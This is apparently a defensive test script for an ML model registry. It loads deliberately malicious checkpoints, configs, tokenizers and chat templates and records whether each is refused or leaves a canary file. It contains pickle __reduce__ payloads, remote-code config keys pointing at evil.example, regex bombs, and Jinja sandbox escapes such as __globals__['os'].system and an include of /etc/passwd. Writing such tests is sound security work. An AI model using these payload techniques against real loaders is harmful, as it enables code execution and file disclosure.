"""Every malicious checkpoint and model in turn, in a process that notes each connection and each program that is started.

Run as: python -m registry.malice CHECKPOINT MODEL FOLDER; writes a JSON object from case to what became of it.
"""

from __future__ import annotations

import hashlib
import io
import json
import pickle
import shutil
import sys
import zipfile
from pathlib import Path

SEEN: list[str] = []
WATCHED = (
    "socket.connect",
    "socket.getaddrinfo",
    "subprocess.Popen",
    "os.system",
    "os.exec",
    "os.posix_spawn",
)


class Payload:
    """Unpickled, it leaves a canary."""

    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self):
        return open, (self.canary, "w")


def pickled(canary: Path) -> bytes:
    return pickle.dumps(Payload(str(canary)))


def archive(canary: Path, member: str) -> bytes:
    """The form in which torch saves: a zip with a pickle in it."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        file.writestr(member, pickled(canary))
        file.writestr("archive/version", "3\n")
    return made.getvalue()


def weights_instead(canary: Path) -> dict[str, dict[str, bytes | None]]:
    """Checkpoints with something else where the weights should be; None takes a file away."""
    gone: dict[str, bytes | None] = {"model.safetensors": None}
    names = ("pytorch_model.bin", "model.pt", "model.pth", "model.pkl", "model.pickle", "model.joblib", "model.npz",
             "model.ckpt", "tf_model.h5", "flax_model.msgpack")  # fmt: skip
    found = {f"{name} alone": {**gone, name: archive(canary, "archive/data.pkl")} for name in names}
    found |= {
        "pickle called safetensors": {"model.safetensors": pickled(canary)},
        "torch archive called safetensors": {"model.safetensors": archive(canary, "archive/data.pkl")},
        "npz called safetensors": {"model.safetensors": archive(canary, "weight.npy")},
        "header that lies": {"model.safetensors": (2**60).to_bytes(8, "little") + b"{}"},
        "header of pickle": {"model.safetensors": (64).to_bytes(8, "little") + pickled(canary).ljust(64)},
        "safetensors and zip at once": {
            "model.safetensors": b"\x08" + b"\0" * 7 + b"{}      " + archive(canary, "data.pkl")
        },
        "sharded index to a pickle": {
            **gone,
            "model.safetensors.index.json": json.dumps({"weight_map": {"x": "pytorch_model.bin"}}).encode(),
            "pytorch_model.bin": archive(canary, "archive/data.pkl"),
        },
        "empty weights": {"model.safetensors": b""},
    }
    return found


def files_within_a_model(canary: Path) -> dict[str, tuple[str, bytes, bool]]:
    """Files put into a fitted model, with digests that are right; whether `model.json` names them."""
    states = (
        "rng_state.pth",
        "optimizer.pt",
        "scheduler.pt",
        "scaler.pt",
        "head.joblib",
        "training_args.bin",
    )
    found = {f"{name} named": (name, pickled(canary), True) for name in states}
    found |= {
        "encoder/pytorch_model.bin not named": (
            "encoder/pytorch_model.bin",
            archive(canary, "archive/data.pkl"),
            False,
        ),
        "encoder/adapter_config.json not named": (
            "encoder/adapter_config.json",
            json.dumps({"peft_type": "LORA", "base_model_name_or_path": "evil/model"}).encode(),
            False,
        ),
        "encoder/adapter_config.json named": (
            "encoder/adapter_config.json",
            json.dumps({"peft_type": "LORA", "base_model_name_or_path": "evil/model"}).encode(),
            True,
        ),
        "encoder/modeling_evil.py named": (
            "encoder/modeling_evil.py",
            f"open({str(canary)!r}, 'w')".encode(),
            True,
        ),
        "head.safetensors is a pickle": ("head.safetensors", pickled(canary), True),
        "head.safetensors is a torch archive": (
            "head.safetensors",
            archive(canary, "archive/data.pkl"),
            True,
        ),
        "encoder/model.safetensors is a pickle": ("encoder/model.safetensors", pickled(canary), True),
    }
    return found


def configurations(canary: Path) -> dict[str, tuple[str, dict]]:
    """Changes to a configuration file that ask for code or for another place."""
    config, tokens = "config.json", "tokenizer_config.json"
    return {
        "auto_map": (config, {"auto_map": {"AutoModel": "evil--modeling.Evil"}}),
        "nested auto_map": (config, {"text_config": {"auto_map": {"AutoModel": "x.Y"}}}),
        "auto_map in a list": (config, {"layers_of": [{"auto_map": {"AutoModel": "x.Y"}}]}),
        "trust_remote_code": (config, {"trust_remote_code": True}),
        "nested trust_remote_code": (config, {"vision_config": {"trust_remote_code": True}}),
        "unknown model_type": (config, {"model_type": "evil"}),
        "model_type is a path": (config, {"model_type": "../../evil"}),
        "attention from a repository": (config, {"_attn_implementation_internal": "evil/kernel"}),
        "attention by its name": (config, {"attn_implementation": "evil/kernel"}),
        "kernels": (config, {"use_kernels": True, "kernel_config": {"RMSNorm": "evil/kernel:Layer"}}),
        "backbone of a repository": (config, {"backbone": "evil/model", "use_pretrained_backbone": True}),
        "quantisation": (config, {"quantization_config": {"quant_method": "awq"}}),
        "an unknown key with a repository": (config, {"kernels_of_2027": "evil/repo"}),
        "an unknown key with a module": (config, {"loss_class": "os.system"}),
        "a known key with an address": (config, {"hidden_act": "https://evil.example/act.py"}),
        "a known key with a path": (config, {"hidden_act": "/tmp/evil.so"}),
        "weights by another name": (config, {"transformers_weights": "pytorch-model.bin"}),
        "depth": (config, {"deep": json.loads("[" * 50 + "1" + "]" * 50)}),
        "auto_map of the tokenizer": (tokens, {"auto_map": {"AutoTokenizer": ["evil.Tok", None]}}),
        "class of the tokenizer is a path": (tokens, {"tokenizer_class": "../evil.Tok"}),
        "class of the tokenizer is a module": (tokens, {"tokenizer_class": "os.system"}),
        "auto_map of the generation": ("generation_config.json", {"auto_map": {"X": "y.Z"}}),
        "custom generation": ("generation_config.json", {"trust_remote_code": True}),
    }


def tokenizers() -> dict[str, dict | bytes]:
    """What stands in the place of parts of a `tokenizer.json`, or of all of it."""

    def split(regex: str) -> dict:
        return {
            "pre_tokenizer": {
                "type": "Split",
                "pattern": {"Regex": regex},
                "behavior": "Isolated",
                "invert": False,
            }
        }

    def replace(content: str, regex: str = "") -> dict:
        pattern = {"Regex": regex} if regex else {"String": "a"}
        return {"type": "Replace", "pattern": pattern, "content": content}

    template = {"type": "TemplateProcessing", "single": [], "pair": [], "special_tokens": {}}
    token = {"SpecialToken": {"id": "x", "type_id": 0}}
    return {
        "a pattern that explodes": split("^(a+)+$"),
        "a pattern that explodes by its choices": split("(a|a)*b"),
        "a pattern that explodes by counts": split("([^b]{1,90}){2,90}b"),
        "a pattern that is none": split("((("),
        "a pattern without an end": split("a?" * 5000),
        "a normaliser whose pattern explodes": {"normalizer": replace("b", "(.*)*x")},
        "a normaliser that writes a megabyte for a letter": {"normalizer": replace("x" * 1_000_000)},
        "normalisers that multiply each other": {
            "normalizer": {"type": "Sequence", "normalizers": [replace("a" * 10)] * 7}
        },
        "a normaliser that puts a book before each text": {"normalizer": {"type": "Prepend", "prepend": "b" * 100_000}},
        "a table of characters that is none": {
            "normalizer": {"type": "Precompiled", "precompiled_charsmap": "AAAA/////w=="}
        },
        "a normaliser of an unknown kind": {"normalizer": {"type": "Evil"}},
        "a hundred thousand tokens around a text": {"post_processor": {**template, "single": [token] * 100_000}},
        "a token that stands for a hundred thousand": {
            "post_processor": {
                **template,
                "single": [token],
                "special_tokens": {"x": {"id": "x", "ids": [1] * 100_000, "tokens": ["x"] * 100_000}},
            }
        },
        "depth": b'{"normalizer":' + b"[" * 200_000,
        "half a file": b'{"version": "1.0", "model": {"type": "WordPi',
        "a list": b"[]",
        "no text": b"\xff\xfe\x00",
        "a vocabulary beyond the network's": {"added_tokens": [
            {"id": 40_000 + number, "content": f"w{number}", "single_word": False, "lstrip": False, "rstrip": False,
             "normalized": False, "special": False} for number in range(40_000)
        ]},
    }  # fmt: skip


TEMPLATES = {
    "loops without an end": "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "calls itself twice": "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(200) }}",
    "calls itself without an end": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "doubles a text": "{% set n = namespace(x='xx') %}{% for a in range(60) %}{% set n.x=n.x~n.x %}{% endfor %}{{ n.x }}",
    "fills a list": "{% set n = namespace(x=[1]) %}{% for a in range(60) %}{% set n.x = n.x + n.x %}{% endfor %}{{ n.x }}",
    "pads a text": "{{ 'x'.center(99999999999) }}",
    "pads by a format": "{{ '%99999999999d' % 1 }}",
    "multiplies a text": "{{ 'x' * 99999999999 }}",
    "takes a power": "{{ 9 ** 9 ** 9 }}",
    "counts too far": "{{ range(9999999999) | list }}",
    "asks for classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "asks for globals": "{{ raise_exception.__globals__['os'].system('true') }}",
    "asks for globals of a macro": "{% macro f() %}{% endmacro %}{{ f.__globals__ }}{{ f._func.__code__.co_consts }}",
    "asks through a format": "{{ '{0.__class__.__mro__}'.format(1) }}",
    "changes what it was given": "{{ messages.append(messages) }}{{ messages.clear() }}",
    "includes a file": "{% include '/etc/passwd' %}",
    "imports": "{% import 'os' as os %}{{ os.system('true') }}",
    "extends": "{% extends 'http://evil.example/x' %}",
    "is none": "{% for x in %}{{",
}
"""Chat templates that would read what they shall not, or outlast everybody."""


def with_right_digests(model: Path) -> None:
    """What an attacker does who can write the whole folder."""
    place = model / "model.json"
    facts = json.loads(place.read_text())
    facts["files"] = {
        name: hashlib.sha256((model / name).read_bytes()).hexdigest()
        for name in facts["files"]
        if (model / name).is_file()
    }
    place.write_text(json.dumps(facts))


def main() -> None:
    checkpoint, model, folder = (Path(one) for one in sys.argv[1:])
    canary = folder / "canary"
    from headwinds.adapt.checkpoints import load_encoder, load_tokenizer, resolve_checkpoint
    from headwinds.doors.registering import add_model, open_registry
    from headwinds.errors import HeadwindsError
    from headwinds.registry.index import versions_of
    from headwinds.serve.shelf import shelf_of_folder

    registry = open_registry(folder / "registry")
    outcome: dict[str, str] = {}
    sys.addaudithook(lambda event, _: SEEN.append(event) if event in WATCHED else None)

    def tried(case: str, *attempts) -> None:
        said = []
        for attempt in attempts:
            try:
                attempt()
                said.append("loaded")
            except HeadwindsError as error:
                said.append("refused")
                if "\n" in str(error):
                    said.append("in several lines")
        outcome[case] = ", ".join(said) + (", CANARY" if canary.exists() else "")

    def loaded(place: Path) -> None:
        found = resolve_checkpoint(str(place))
        load_tokenizer(found)
        load_encoder(found)

    for case, files in weights_instead(canary).items():
        place = folder / hashlib.sha256(case.encode()).hexdigest()[:12]
        shutil.copytree(checkpoint, place)
        for name, content in files.items():
            if content is None:
                (place / name).unlink()
            else:
                (place / name).write_bytes(content)
        tried(f"weights: {case}", lambda place=place: loaded(place))
    for case, (name, content, listed) in files_within_a_model(canary).items():
        place = folder / hashlib.sha256(case.encode()).hexdigest()[:12]
        shutil.copytree(model, place)
        (place / name).write_bytes(content)
        if listed:
            facts = json.loads((place / "model.json").read_text())
            facts["files"][name] = ""
            (place / "model.json").write_text(json.dumps(facts))
        with_right_digests(place)
        tried(f"model: {case}", lambda place=place: shelf_of_folder(place, "m"))
        tried(f"registry: {case}", lambda place=place: add_model(registry, "m", place))
    for case, changes in tokenizers().items():
        place = folder / hashlib.sha256(f"tokenizer {case}".encode()).hexdigest()[:12]
        shutil.copytree(checkpoint, place)
        asked = json.loads((place / "tokenizer_config.json").read_text())
        (place / "tokenizer_config.json").write_text(
            json.dumps(
                {**asked, "tokenizer_class": "PreTrainedTokenizerFast"}
            )  # which takes the file as it is
        )
        path = place / "tokenizer.json"
        whole = json.loads(path.read_text())
        path.write_bytes(changes if isinstance(changes, bytes) else json.dumps({**whole, **changes}).encode())
        tried(f"tokenizer: {case}", lambda place=place: load_tokenizer(resolve_checkpoint(str(place))))
    from headwinds.adapt import bounded_rendering
    from headwinds.adapt.conversations import segments_of
    from headwinds.adapt.tasks.written_examples import Turn

    tokenizer = load_tokenizer(resolve_checkpoint(str(checkpoint)))
    tokenizer.eos_token = tokenizer.eos_token or tokenizer.sep_token
    bounded_rendering.rendered_within.__kwdefaults__["seconds"] = 0.5
    for case, template in TEMPLATES.items():
        tokenizer.chat_template = template
        turns = [Turn("user", "hello"), Turn("assistant", "you")]
        tried(f"template: {case}", lambda turns=turns: segments_of(tokenizer, turns))
    for case, (name, changes) in configurations(canary).items():
        for kind, source, within in (("checkpoint", checkpoint, ""), ("model", model, "encoder/")):
            place = folder / hashlib.sha256(f"{kind} {case}".encode()).hexdigest()[:12]
            shutil.copytree(source, place)
            path = place / (within + name)
            path.write_text(
                json.dumps({**(json.loads(path.read_text()) if path.exists() else {}), **changes})
            )
            if kind == "checkpoint":
                tried(f"configuration: {case}", lambda place=place: loaded(place))
                continue
            facts = json.loads((place / "model.json").read_text())
            facts["files"][within + name] = ""
            (place / "model.json").write_text(json.dumps(facts))
            with_right_digests(place)
            tried(
                f"configuration in a model: {case}",
                lambda place=place: add_model(registry, "m", place),
                lambda place=place: shelf_of_folder(place, "m"),
            )
    outcome["kept"] = str(len(versions_of(registry)) + len(list(registry.versions.glob("*"))))
    registry.engine.dispose()
    print(json.dumps({"outcome": outcome, "seen": SEEN}))


if __name__ == "__main__":
    main()
